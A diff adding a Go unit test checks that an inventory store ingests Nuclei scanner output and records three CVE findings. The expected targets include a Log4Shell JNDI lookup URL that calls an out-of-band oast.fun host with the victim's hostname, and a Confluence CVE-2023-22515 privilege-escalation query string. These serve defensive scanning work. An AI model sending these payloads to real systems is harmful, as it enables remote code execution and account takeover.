@@ -0,0 +1,56 @@
+package inventory
+
+import (
+	"os"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestIngestNuclei(t *testing.T) {
+	data, err := os.ReadFile("testdata/nuclei.jsonl")
+	if err != nil {
+		t.Fatal(err)
+	}
+	store := NewStore()
+	if err := store.Ingest("nuclei", "example.com", strings.Split(string(data), "\n")); err != nil {
+		t.Fatalf("Ingest: %v", err)
+	}
+
+	type finding struct {
+		Target   string
+		Severity Severity
+		Title    string
+		Detail   string
+	}
+	var got []finding
+	for _, f := range store.Findings(FindingFilter{}) {
+		if f.Scanner != "nuclei" {
+			t.Errorf("finding %s has scanner %q, want nuclei", f.Title, f.Scanner)
+		}
+		got = append(got, finding{f.Target, f.Severity, f.Title, f.Detail})
+	}
+	want := []finding{
+		{
+			Target:   "https://app.example.com/?x=${jndi:ldap://${:-742}${:-180}.${hostName}.uri.cn3q2ok7pdnh3mtmfh3g.oast.fun/a}",
+			Severity: SeverityCritical,
+			Title:    "CVE-2021-44228",
+			Detail:   "Apache Log4j2 - Remote Code Injection [app-01]",
+		},
+		{
+			Target:   "https://wiki.example.com/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false",
+			Severity: SeverityCritical,
+			Title:    "CVE-2023-22515",
+			Detail:   "Atlassian Confluence - Privilege Escalation",
+		},
+		{
+			Target:   "https://lb.example.com",
+			Severity: SeverityMedium,
+			Title:    "CVE-2020-5902",
+			Detail:   "F5 BIG-IP TMUI - Remote Code Execution",
+		},
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("findings =\n%+v\nwant\n%+v", got, want)
+	}
+}